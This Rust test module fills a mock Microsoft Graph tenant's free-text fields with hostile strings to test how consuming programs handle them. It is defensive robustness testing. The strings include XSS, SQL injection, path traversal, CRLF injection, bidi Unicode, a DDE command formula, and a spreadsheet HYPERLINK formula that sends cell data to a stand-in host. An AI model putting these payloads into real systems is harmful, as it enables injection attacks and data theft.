//! Text that breaks careless programs, put wherever an administrator or a guest could have typed it.

use serde_json::Value;

use super::Tenant;

/// Properties whose values have a fixed form: an administrator cannot type into them.
const FIXED: &[&str] = &[
    "@odata.type",
    "allowInvitesFrom",
    "allowedCombinations",
    "appliesTo",
    "assignmentType",
    "authenticationType",
    "builtInControls",
    "capabilityStatus",
    "category",
    "cidrAddress",
    "clientAppTypes",
    "clientAppUsed",
    "conditionalAccessStatus",
    "consentType",
    "countriesAndRegions",
    "countryLookupMethod",
    "creationType",
    "externalUserState",
    "frequencyInterval",
    "groupTypes",
    "includeApplications",
    "includeLocations",
    "excludeLocations",
    "includeUsers",
    "ipAddress",
    "memberType",
    "methodsRegistered",
    "operationType",
    "operator",
    "passwordPolicies",
    "policyMigrationState",
    "policyType",
    "provisioningStatus",
    "requirementsSatisfied",
    "result",
    "riskDetail",
    "riskLevelAggregated",
    "riskLevelDuringSignIn",
    "riskState",
    "servicePlanName",
    "servicePrincipalType",
    "signInAudience",
    "state",
    "systemPreferredAuthenticationMethods",
    "targetType",
    "tenantType",
    "type",
    "userPreferredMethodForSecondaryAuthentication",
    "userType",
    "values",
    "permissionGrantPoliciesAssigned",
    "directoryScopeId",
    "resourceScope",
    "resourceScopes",
    "scope",
];

/// The hostile values, used in turn.
fn samples() -> Vec<String> {
    vec![
        "<script>alert(document.domain)</script>".to_owned(),
        "\"><img src=x onerror=alert(1)>".to_owned(),
        "javascript:alert(1)//".to_owned(),
        "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"open\")".to_owned(),
        "@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        "user\u{202e}gpj.exe\u{2066}hidden\u{2069}".to_owned(),
        "zero\u{200b}width\u{feff}joined\u{200d}name".to_owned(),
        "nul\u{0}bell\u{7}escape\u{1b}[31mred\u{1b}[0m\u{8}\u{7f}\u{85}".to_owned(),
        "line one\r\nSet-Cookie: a=b\r\n\r\n<h1>two</h1>".to_owned(),
        "A".repeat(10_000),
        "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}".repeat(2_000),
        "'; DROP TABLE evidence; --".to_owned(),
        "../../../../etc/passwd\u{2028}C:\\CON".to_owned(),
        "{{7*7}} ${7*7} %s%n %00".to_owned(),
        "e\u{301}\u{301}\u{301}".repeat(500),
        "[click](javascript:alert(1)) `code` | table".to_owned(),
    ]
}

pub(super) fn poison(tenant: &mut Tenant) {
    let samples = samples();
    let mut turn = 0;
    let lists = [
        &mut tenant.users,
        &mut tenant.registration_details,
        &mut tenant.groups,
        &mut tenant.role_definitions,
        &mut tenant.directory_roles,
        &mut tenant.conditional_access_policies,
        &mut tenant.named_locations,
        &mut tenant.authentication_strengths,
        &mut tenant.sign_ins,
        &mut tenant.directory_audits,
        &mut tenant.organization,
        &mut tenant.subscribed_skus,
        &mut tenant.applications,
        &mut tenant.service_principals,
        &mut tenant.governance.devices,
        &mut tenant.governance.access_reviews,
        &mut tenant.governance.app_role_assignments,
    ];
    for list in lists {
        for object in list.iter_mut() {
            walk("", object, &samples, &mut turn);
        }
    }
    for object in [
        &mut tenant.security_defaults,
        &mut tenant.authorization_policy,
        &mut tenant.authentication_methods_policy,
    ] {
        walk("", object, &samples, &mut turn);
    }
}

fn walk(key: &str, value: &mut Value, samples: &[String], turn: &mut usize) {
    match value {
        Value::Object(map) => {
            for (name, inner) in map.iter_mut() {
                walk(name, inner, samples, turn);
            }
        }
        Value::Array(list) => list
            .iter_mut()
            .for_each(|inner| walk(key, inner, samples, turn)),
        Value::String(text) if !is_fixed(key, text) => {
            if let Some(sample) = samples.get(*turn % samples.len().max(1)) {
                sample.clone_into(text);
            }
            *turn += 1;
        }
        _ => {}
    }
}

/// Identifiers, dates and enumerations keep their form: Graph itself writes those.
fn is_fixed(key: &str, text: &str) -> bool {
    FIXED.contains(&key)
        || key == "id"
        || key.ends_with("Id")
        || key.ends_with("Ids")
        || key.ends_with("DateTime")
        || key.ends_with("Users")
        || key.ends_with("Roles")
        || key.ends_with("Groups")
        || text.is_empty()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn free_text_is_poisoned_and_identifiers_are_not() {
        let clean = Tenant::small();
        let hostile = Tenant::hostile();
        for (before, after) in clean.users.iter().zip(&hostile.users) {
            assert_eq!(before["id"], after["id"]);
            assert_eq!(before["userType"], after["userType"]);
            assert_eq!(before["createdDateTime"], after["createdDateTime"]);
            for name in ["displayName", "userPrincipalName", "givenName"] {
                assert_ne!(before[name], after[name], "{name}");
            }
        }
        let all = hostile
            .users
            .iter()
            .map(Value::to_string)
            .collect::<String>();
        assert!(all.contains("<script>") && all.contains('\u{202e}') && all.contains("\\u0000"));
        assert!(all.contains(&"A".repeat(10_000)));
        assert_eq!(
            clean
                .conditional_access_policies
                .first()
                .map(|policy| policy["state"].clone()),
            hostile
                .conditional_access_policies
                .first()
                .map(|policy| policy["state"].clone())
        );
    }
}
